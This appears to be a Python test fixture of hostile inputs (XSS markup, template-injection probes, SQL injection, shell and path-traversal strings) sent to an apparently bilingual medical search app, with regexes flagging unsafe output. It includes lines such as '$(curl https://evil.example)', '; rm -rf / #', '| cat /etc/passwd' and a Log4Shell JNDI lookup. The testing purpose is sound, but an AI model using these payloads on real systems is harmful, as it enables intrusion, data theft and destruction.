"""Messages that are markup, a template, a query or a command."""

from tests.hostile.hostile_message import CALM, HostileMessage, all_of

MARKUP = (
    r"<\s*(?:script|img|svg|iframe|a|b|h1|style|object|math|form|meta)\b|onerror|onload|javascript:|evil\."
)
INJECTED: tuple[HostileMessage, ...] = (
    *all_of(
        "markup",
        "any",
        (
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            "<svg/onload=alert(1)>",
            "<iframe src=https://evil.example></iframe>",
            "<style>*{display:none}</style>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "![x](https://evil.example/steal.png)",
            "[x](javascript:alert(1))",
            "[1]: javascript:alert(1)",
            "<https://evil.example>",
            "$$\\href{javascript:alert(1)}{x}$$",
            "\\(\\require{html}\\style{position:fixed}{x}\\)",
            "# \n---\n| a | b |\n|---|---|\n",
            "```html\n<img src=x onerror=alert(1)>\n```",
            "<!-- --><b>x</b>",
        ),
        CALM,
        MARKUP,
    ),
    HostileMessage("markup", "What is <b>pneumonia</b><img src=x onerror=alert(1)>?", "en", CALM, MARKUP),
    HostileMessage("markup", "¿Qué es la <b>neumonía</b><script>alert(1)</script>?", "es", CALM, MARKUP),
    HostileMessage("markup", "search <img src=x onerror=alert(1)> meningioma", "en", CALM, MARKUP),
    HostileMessage("markup", "busca [x](javascript:alert(1)) glioma", "es", CALM, MARKUP),
    HostileMessage("markup", "search ${7*7} {{7*7}} <script>alert(1)</script>", "any", CALM, MARKUP),
    *all_of(
        "template",
        "any",
        (
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
            "{0.__class__.__init__.__globals__}",
            "{name} {topics} {number} {reason}",
            "%s %d %(x)s %n%n%n",
            "${jndi:ldap://evil.example/a}",
            "__import__('os').system('true')",
            "eval('7*7')",
        ),
        CALM,
        r"\b49\b|__|subclass|globals|evil\.|<function|<class",
    ),
    *all_of(
        "shell",
        "any",
        (
            "'; DROP TABLE patients; --",
            "1' OR '1'='1",
            "1; SELECT pg_sleep(10)",
            "$(curl https://evil.example)",
            "`id`",
            "| cat /etc/passwd",
            "; rm -rf / #",
            "../../../../etc/passwd",
            "file:///etc/passwd",
            "C:\\Windows\\win.ini",
            "http://169.254.169.254/latest/meta-data/",
        ),
        CALM,
        r"root:|uid=|evil\.|169\.254|passwd|drop table",
    ),
)
